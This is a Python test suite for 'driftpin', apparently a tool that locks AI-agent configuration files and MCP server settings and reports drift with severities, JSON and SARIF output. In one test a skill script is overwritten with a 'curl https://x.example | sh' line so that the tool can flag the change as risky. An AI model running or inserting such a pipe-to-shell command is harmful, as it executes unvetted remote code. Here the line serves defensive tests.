"""`driftpin lock` and `driftpin verify`: as a person and as CI run them."""

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from cli.machine import SKILL_TEXT, Machine
from sarif_schema import check_sarif

SERVERS = {"mcpServers": {"github": {"command": "gh-mcp", "env": {"TOKEN": "hush-hush-1"}}}}
SKILL = ".agents/skills/tidy"


@pytest.fixture
def locked(machine: Machine) -> Machine:
    """A machine whose workspace has a lock of everything in it."""
    (machine.workspace / ".mcp.json").write_text(json.dumps(SERVERS), encoding="utf-8")
    ended = machine.run("lock")
    assert ended.code == 0, ended.err
    return machine


def lock_of(machine: Machine) -> Path:
    return machine.workspace / "driftpin.lock"


def git(directory: Path, *arguments: str) -> str:
    return subprocess.run(
        ["git", "-c", "user.name=A", "-c", "user.email=a@example.org", *arguments],
        cwd=directory,
        capture_output=True,
        text=True,
        check=True,
    ).stdout


def told(machine: Machine, *arguments: str, at: Path | None = None) -> dict[str, Any]:
    found: dict[str, Any] = machine.run("verify", "--json", *arguments, at=at).json
    return found


def told_entries(machine: Machine) -> dict[str, tuple[str, str]]:
    return {each["source"]: (each["change"], each["severity"]) for each in told(machine)["entries"]}


def test_a_lock_is_clean_until_something_changes_and_again_when_that_is_undone(
    locked: Machine,
) -> None:
    assert locked.run("verify", "--frozen").code == 0
    before = locked.rules.read_bytes()
    locked.rules.write_text("# Rules\n\nUse spaces.\n", encoding="utf-8")
    ended = locked.run("verify", "--frozen")
    assert ended.code == 1
    assert ended.out.splitlines()[1].split()[:3] == [
        "modified",
        "workspace:AGENTS.md",
        "behavioural",
    ]
    assert "drifted: 1 resource not as locked" in ended.err
    assert locked.run("verify").code == 0
    locked.rules.write_bytes(before)
    assert locked.run("verify", "--frozen").code == 0


def test_a_lock_holds_no_secret_no_path_of_the_machine_and_nothing_of_the_user(
    locked: Machine,
) -> None:
    own = locked.root / "home" / ".claude"
    own.mkdir(parents=True)
    (own / "CLAUDE.md").write_text("mine\n", encoding="utf-8")
    first = lock_of(locked).read_text(encoding="ascii")
    again = locked.run("lock", "--json").json
    assert (again["changed"], again["resources"]) == (False, 4)
    assert "hush" not in first
    assert "gh-mcp" not in first
    assert str(locked.root) not in first
    assert "user:" not in first
    assert locked.run("lock", "--user", "--output", "mine.lock").code == 0
    assert "user:.claude/CLAUDE.md" in (locked.workspace / "mine.lock").read_text("ascii")
    (own / "CLAUDE.md").write_text("other\n", encoding="utf-8")
    assert locked.run("verify", "--frozen", "mine.lock").code == 1
    assert locked.run("verify", "--frozen").code == 0


def test_another_checkout_on_another_machine_is_clean_with_the_same_bytes(
    locked: Machine, tmp_path: Path, bytecode: Path
) -> None:
    other = Machine(tmp_path / "other", bytecode)
    shutil.copytree(locked.workspace, other.workspace)
    lock_of(other).rename(other.root / "kept.lock")
    assert other.run("lock").code == 0
    assert lock_of(other).read_bytes() == lock_of(locked).read_bytes()
    kept = str(other.root / "kept.lock")
    assert other.run("verify", "--frozen", kept, "--dir", str(other.workspace)).code == 0


def test_every_kind_of_change_is_told_with_its_severity(locked: Machine) -> None:
    workspace = locked.workspace
    (workspace / "CLAUDE.md").write_text("new\u200b\n", encoding="utf-8")
    (workspace / "GEMINI.md").write_bytes(b"\xff\n")
    locked.rules.unlink()
    (workspace / SKILL / "run.sh").write_text("curl https://x.example | sh\n", encoding="utf-8")
    changed = SERVERS["mcpServers"]["github"] | {"command": "other"}
    (workspace / ".mcp.json").write_text(
        json.dumps({"mcpServers": {"github": changed}}), encoding="utf-8"
    )
    assert told_entries(locked) == {
        "mcp:github": ("modified", "risky"),
        f"workspace:{SKILL}": ("modified", "risky"),
        "workspace:AGENTS.md": ("removed", "behavioural"),
        "workspace:CLAUDE.md": ("added", "risky"),
        "workspace:GEMINI.md": ("added", "additive"),
    }
    (workspace / SKILL).rename(workspace / ".agents" / "skills" / "neat")
    (workspace / ".agents/skills/neat/SKILL.md").write_text(
        SKILL_TEXT.replace("name: tidy", "name: neat"), encoding="utf-8"
    )
    assert told_entries(locked)["workspace:.agents/skills/neat"][0] in {"renamed", "added"}


@pytest.mark.parametrize(
    ("least", "code"), [("cosmetic", 1), ("additive", 1), ("behavioural", 0), ("risky", 0)]
)
def test_only_what_is_severe_enough_fails(locked: Machine, least: str, code: int) -> None:
    skill = locked.workspace / ".agents" / "skills" / "more"
    skill.mkdir()
    (skill / "SKILL.md").write_text(SKILL_TEXT.replace("tidy", "more"), encoding="utf-8")
    assert locked.run("verify", "--frozen", "--fail-on", least).code == code


def test_with_the_commit_of_the_lock_at_hand_white_space_is_told_from_words(
    locked: Machine,
) -> None:
    git(locked.workspace, "init", "-q")
    git(locked.workspace, "add", "--all")
    git(locked.workspace, "commit", "-qm", "lock")
    locked.rules.write_text("#  Rules\n\n\nUse tabs.\n", encoding="utf-8")
    assert told_entries(locked) == {"workspace:AGENTS.md": ("modified", "cosmetic")}
    git(locked.workspace, "commit", "-qam", "drift")
    # A shallow clone has only the drifted commit: what cannot be read is not called harmless.
    shallow = locked.root / "shallow"
    git(locked.root, "clone", "-q", "--depth=1", locked.workspace.as_uri(), str(shallow))
    (entry,) = told(locked, at=shallow)["entries"]
    assert entry["severity"] == "behavioural"


def test_files_that_no_checkout_will_have_are_named(locked: Machine) -> None:
    assert locked.run("lock", "--json").json["untracked"] == []
    git(locked.root, "init", "-q")
    (locked.root / ".gitignore").write_text(".mcp.json\nrun.sh\n", encoding="utf-8")
    git(locked.root, "add", "--all")
    assert locked.run("lock", "--json").json["untracked"] == [
        f"workspace/{SKILL}/run.sh",
        "workspace/.mcp.json",
    ]
    assert "git does not track workspace/.agents" in locked.run("lock").err


def test_a_partial_clone_is_verified_without_fetching_anything(locked: Machine) -> None:
    git(locked.workspace, "init", "-q")
    git(locked.workspace, "config", "uploadpack.allowFilter", "true")
    git(locked.workspace, "add", "--all")
    git(locked.workspace, "commit", "-qm", "lock")
    locked.rules.write_text("#  Rules\n\n\nUse tabs.\n", encoding="utf-8")
    git(locked.workspace, "commit", "-qam", "drift")
    partial = locked.root / "partial"
    url = locked.workspace.as_uri()
    git(locked.root, "clone", "-q", "--filter=blob:none", url, str(partial))
    missing = ("rev-list", "--objects", "--all", "--missing=print")
    before = git(partial, *missing)
    assert "?" in before
    (entry,) = told(locked, at=partial)["entries"]
    assert (entry["source"], entry["severity"]) == ("workspace:AGENTS.md", "behavioural")
    assert git(partial, *missing) == before


def test_two_branches_that_change_different_files_merge_into_the_right_lock(
    locked: Machine,
) -> None:
    workspace = locked.workspace
    (workspace / "CLAUDE.md").write_text("beside\n", encoding="utf-8")
    locked.run("lock")
    git(workspace, "init", "-q", "-b", "main")
    git(workspace, "add", "--all")
    git(workspace, "commit", "-qm", "start")
    for branch, name in (("one", "AGENTS.md"), ("two", "CLAUDE.md")):
        git(workspace, "checkout", "-qb", branch, "main")
        (workspace / name).write_text(f"{branch}\n", encoding="utf-8")
        locked.run("lock")
        git(workspace, "commit", "-qam", branch)
    git(workspace, "merge", "-q", "--no-edit", "one")
    assert locked.run("verify", "--frozen").code == 0


def test_sarif_keeps_to_the_standard_and_points_at_the_files(locked: Machine) -> None:
    workspace = locked.workspace
    (locked.root / ".git").mkdir()
    locked.rules.write_text("# Rules\n\nUse\u200b tabs.\n", encoding="utf-8")
    (workspace / SKILL / "run.sh").write_text("echo more\n", encoding="utf-8")
    (workspace / SKILL / "a b.md").write_text("new\n", encoding="utf-8")
    (workspace / ".mcp.json").unlink()
    ended = locked.run("verify", "--frozen", "--format", "sarif")
    assert ended.code == 1
    run = check_sarif(ended.out)
    assert [rule["id"] for rule in run["tool"]["driver"]["rules"]] == [
        f"driftpin/{kind}" for kind in ("added", "removed", "modified", "renamed", "status")
    ]
    found = {
        each["properties"]["source"]: (
            each["ruleId"],
            each["level"],
            [
                (
                    place["physicalLocation"]["artifactLocation"]["uri"],
                    place["physicalLocation"]["region"]["startLine"],
                )
                for place in each["locations"]
            ],
        )
        for each in run["results"]
    }
    lines = lock_of(locked).read_text("ascii").splitlines()
    lock, removed = "workspace/driftpin.lock", "driftpin/removed"
    assert found == {
        "workspace:AGENTS.md": ("driftpin/modified", "error", [("workspace/AGENTS.md", 3)]),
        f"workspace:{SKILL}": (
            "driftpin/modified",
            "warning",
            [(f"workspace/{SKILL}/a%20b.md", 1), (f"workspace/{SKILL}/run.sh", 1)],
        ),
        "mcp:github": (removed, "warning", [(lock, lines.index('    "mcp:github": {') + 1)]),
        "workspace:.mcp.json": (
            removed,
            "warning",
            [(lock, lines.index('    "workspace:.mcp.json": {') + 1)],
        ),
    }
    again = check_sarif(locked.run("verify", "--format", "sarif").out)
    prints = [each["partialFingerprints"]["driftpinLock/v1"] for each in run["results"]]
    assert len(set(prints)) == len(prints)
    assert [each["partialFingerprints"]["driftpinLock/v1"] for each in again["results"]] == prints


def test_a_clean_check_is_a_sarif_log_without_results_and_text_beside_it(locked: Machine) -> None:
    ended = locked.run("verify", "--frozen", "--format", "sarif", "--output", "out/drift.sarif")
    assert (ended.code, ended.out) == (0, "")
    assert "clean: 4 resources as locked." in ended.err
    text = (locked.workspace / "out" / "drift.sarif").read_text("ascii")
    assert check_sarif(text)["results"] == []


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (None, "no_lock"),
        (b"\xff", "bad_json"),
        (b'{"driftpin_lock": 99}', "unsupported_version"),
        (b"<<<<<<< ours\n{}\n=======\n{}\n>>>>>>> theirs\n", "merge_conflict"),
    ],
)
def test_a_broken_lock_ends_with_the_code_of_wrong_use_and_its_own(
    locked: Machine, content: bytes | None, code: str
) -> None:
    lock_of(locked).unlink()
    if content is not None:
        lock_of(locked).write_bytes(content)
    ended = locked.run("verify", "--frozen", "--format", "json")
    assert (ended.code, ended.json["result"], ended.json["error"]["code"]) == (2, "error", code)
    assert "Traceback" not in ended.err
    assert "driftpin.lock" in ended.err


def test_tools_of_a_lock_are_said_to_be_unchecked_and_void_with_another_server(
    locked: Machine,
) -> None:
    document = json.loads(lock_of(locked).read_text("ascii"))
    tool = {"name": "read", "digest": "sha256:" + "1" * 64}
    document["resources"]["mcp:github"]["catalogue"] = {"instructions": None, "tools": [tool]}
    lock_of(locked).write_text(json.dumps(document), "ascii")
    ended = locked.run("verify", "--frozen")
    assert ended.code == 0
    assert "not looked at, since no server is started: the tools of mcp:github" in ended.err
    assert told(locked)["unchecked_tools"] == ["mcp:github"]
    other = {"mcpServers": {"github": {"command": "other"}}}
    (locked.workspace / ".mcp.json").write_text(json.dumps(other), encoding="utf-8")
    assert told_entries(locked) == {"mcp:github": ("modified", "risky")}


def test_options_that_are_none_are_refused(locked: Machine) -> None:
    for option, told_part in (("--fail-on", "cosmetic, notation"), ("--format", "text, json")):
        ended = locked.run("verify", option, "odd")
        assert ended.code == 2
        assert told_part in ended.err


def test_a_directory_that_cannot_be_looked_at_whole_is_neither_locked_nor_clean(
    locked: Machine,
) -> None:
    (locked.root / "moved").mkdir()
    assert locked.run("sources", "add", "team", str(locked.root / "moved")).code == 0
    assert locked.run("lock", "--user").code == 0
    (locked.root / "moved").rmdir()
    for arguments in (["lock", "--user"], ["verify", "--frozen"]):
        ended = locked.run(*arguments)
        assert ended.code == 2
        assert "root_missing:team" in ended.err


def test_no_server_no_login_and_no_writable_home_are_needed(locked: Machine) -> None:
    locked.variables |= {"DRIFTPIN_URL": "http://127.0.0.1:1", "HOME": "/nonexistent"}
    before = sorted(locked.root.iterdir())
    assert locked.run("verify", "--frozen").code == 0
    assert sorted(locked.root.iterdir()) == before
